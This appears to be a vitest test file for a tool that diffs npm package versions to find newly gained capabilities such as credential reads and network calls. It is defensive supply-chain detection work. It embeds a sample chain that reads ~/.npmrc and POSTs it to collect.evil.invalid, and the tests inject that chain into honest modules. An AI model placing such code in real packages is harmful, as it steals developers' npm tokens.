import { globSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { HONEST_MODULES } from "../../../test/support/honest-code.ts";
import { bundled, REWRITINGS } from "../../../test/support/rewriting.ts";
import { isJsonObject, parseJson } from "../../model/canonical.ts";
import { fileTreeOf } from "../../model/file-tree.ts";
import { parseManifest } from "../../model/manifest.ts";
import type { PackageDiff } from "../../model/package-diff.ts";
import { createSources } from "../parse/parse.ts";
import type { Version } from "./abilities.ts";
import { diffVersions, gainsBetween } from "./diff.ts";

type Modules = ReadonlyMap<string, string>;
type Rewrite = (code: string) => Promise<string>;

const ROOT = fileURLToPath(new URL("../../..", import.meta.url));

function versionOf(modules: Modules, main = "index.js"): Version {
  const files = fileTreeOf(modules);
  const manifest = parseManifest({ name: "example", version: "1.0.0", type: "module", main });
  return { manifest, files, sources: createSources(files) };
}

async function rewritten(modules: Modules, by: Rewrite): Promise<Modules> {
  return new Map(
    await Promise.all([...modules].map(async ([path, code]) => [path, await by(code)] as const)),
  );
}

const before = versionOf(HONEST_MODULES);

/** What a reader is told of a change; places left out. */
function told({ gained, lost, unknown }: PackageDiff): object {
  const short = ({
    capability,
    api,
    target,
    reachedFrom,
    file,
  }: PackageDiff["lost"][number]): string =>
    `${capability} ${api} ${target?.text ?? "?"} ${reachedFrom} ${file}`;
  return { gained: gained.map(short), lost: lost.map(short), unknown };
}

function placeOf({ capability, file, line, column }: PackageDiff["lost"][number]): string {
  return `${capability} ${file}:${String(line)}:${String(column)}`;
}

const SILENCE = { gained: [], lost: [], unknown: [] };

describe("what changes nothing", () => {
  it("gives the honest package capabilities to lose and to gain", () => {
    const nothing = versionOf(new Map([["index.js", "export {};"]]));
    const { gained } = diffVersions(nothing, before);
    expect([...new Set(gained.map(({ capability }) => capability))].sort()).toEqual([
      "credential-read",
      "dynamic-code",
      "environment-read",
      "file-delete",
      "file-read",
      "file-write",
      "gate",
      "network-out",
      "process-spawn",
    ]);
  });

  it.each(REWRITINGS)("$name, file by file", async ({ rewrite }) => {
    const after = versionOf(await rewritten(HONEST_MODULES, rewrite));
    expect(told(diffVersions(before, after))).toEqual(SILENCE);
  });

  it.each(REWRITINGS)("a bundle through $name", async ({ rewrite }) => {
    const bundle = await rewrite(await bundled(HONEST_MODULES, "index.js"));
    const after = versionOf(new Map([["dist/bundle.js", bundle]]), "dist/bundle.js");
    // What nothing uses is left out of a bundle, and so are its capabilities.
    expect(told(diffVersions(before, after))).toMatchObject({ gained: [], unknown: [] });
  });

  it.each(REWRITINGS)("a copy through $name beside what was there", async ({ rewrite }) => {
    const copies = [...(await rewritten(HONEST_MODULES, rewrite))].map(
      ([path, code]) => [`min/${path}`, code] as const,
    );
    const after = versionOf(
      new Map([...HONEST_MODULES, ["index.js", "export * from './min/index.js';"], ...copies]),
    );
    expect(told(diffVersions(before, after))).toMatchObject({ gained: [], unknown: [] });
  });

  it("any of these after one another, under other names, at other places", async () => {
    const steps = fc.array(fc.constantFrom(...REWRITINGS), { minLength: 1, maxLength: 3 });
    await fc.assert(
      fc.asyncProperty(steps, fc.boolean(), async (rewritings, bundles) => {
        let modules = HONEST_MODULES;
        let main = "index.js";
        for (const { rewrite } of rewritings) modules = await rewritten(modules, rewrite);
        if (bundles) {
          modules = new Map([["lib/all.js", await bundled(modules, "index.js")]]);
          main = "lib/all.js";
        }
        const after = versionOf(modules, main);
        expect(told(diffVersions(before, after))).toMatchObject({ gained: [], unknown: [] });
        expect(gainsBetween(before, after)).toEqual({ gained: [], unknown: [], newlyUnknown: [] });
      }),
      { numRuns: 20 },
    );
  }, 60_000);
});

/** Dependencies of this project, as real code as any; a folder's files that are code or manifest. */
function installed(name: string): Version {
  const folder = join(ROOT, "node_modules", name);
  const paths = globSync("**/*.{js,json}", { cwd: folder });
  const files = fileTreeOf(paths.map((path) => [path, readFileSync(join(folder, path))]));
  const entry = files.get("package.json");
  if (entry === undefined) throw new Error(`${name} is not installed`);
  const raw = parseJson(files.text(entry));
  if (!isJsonObject(raw)) throw new Error(`${name} has no manifest`);
  return { manifest: parseManifest(raw), files, sources: createSources(files) };
}

async function rewrittenVersion({ manifest, files }: Version, by: Rewrite): Promise<Version> {
  const entries = await Promise.all(
    files.entries.map(async (entry) => {
      const text = files.text(entry);
      return [entry.path, entry.path.endsWith(".js") ? await by(text) : text] as const;
    }),
  );
  const tree = fileTreeOf(entries);
  return { manifest, files: tree, sources: createSources(tree) };
}

describe.each(["tuf-js", "semver", "undici"])("%s, as it is installed", (name) => {
  // The larger one with one tool alone: it takes its time.
  const tools = name === "undici" ? REWRITINGS.slice(2, 3) : REWRITINGS;
  it.each(tools)(
    "through $name",
    async ({ rewrite }) => {
      const real = installed(name);
      const { gained, unknown } = diffVersions(real, await rewrittenVersion(real, rewrite));
      expect({ gained: gained.map(placeOf), unknown }).toEqual({ gained: [], unknown: [] });
    },
    120_000,
  );
});

/** Reads a token and sends it away; written so that bundlers keep it. */
const CHAIN = `
import * as files from "node:fs";
import * as system from "node:os";
const secret = files.readFileSync(system.homedir() + "/.npmrc", "utf8");
fetch("https://collect.evil.invalid/t", { method: "POST", body: secret });
`;

describe("one chain put into it", () => {
  const places = [...HONEST_MODULES.keys()];
  const added = [
    "credential-read ~/.npmrc",
    "file-read ~/.npmrc",
    "network-out collect.evil.invalid",
  ];

  it.each(REWRITINGS)("is all that is found after $name", async ({ rewrite }) => {
    for (const place of places) {
      const poisoned = new Map(HONEST_MODULES).set(
        place,
        `${CHAIN}\n${HONEST_MODULES.get(place) ?? ""}`,
      );
      const after = versionOf(await rewritten(poisoned, rewrite));
      const { gained } = diffVersions(before, after);
      expect(
        gained.map(({ capability, target }) => `${capability} ${target?.text ?? "?"}`).sort(),
      ).toEqual(added);
      expect(gainsBetween(before, after).gained.map(placeOf)).toEqual(gained.map(placeOf));
      expect(new Set(gained.map(({ file }) => file))).toEqual(new Set([place]));
    }
  });

  it.each(REWRITINGS)("is all that is found in a bundle through $name", async ({ rewrite }) => {
    const poisoned = new Map(HONEST_MODULES).set(
      "template.js",
      `${CHAIN}\n${HONEST_MODULES.get("template.js") ?? ""}`,
    );
    const bundle = await rewrite(await bundled(poisoned, "index.js"));
    const after = versionOf(new Map([["dist/bundle.js", bundle]]), "dist/bundle.js");
    const { gained } = diffVersions(before, after);
    expect(
      gained.map(({ capability, target }) => `${capability} ${target?.text ?? "?"}`).sort(),
    ).toEqual(added);
  });
});
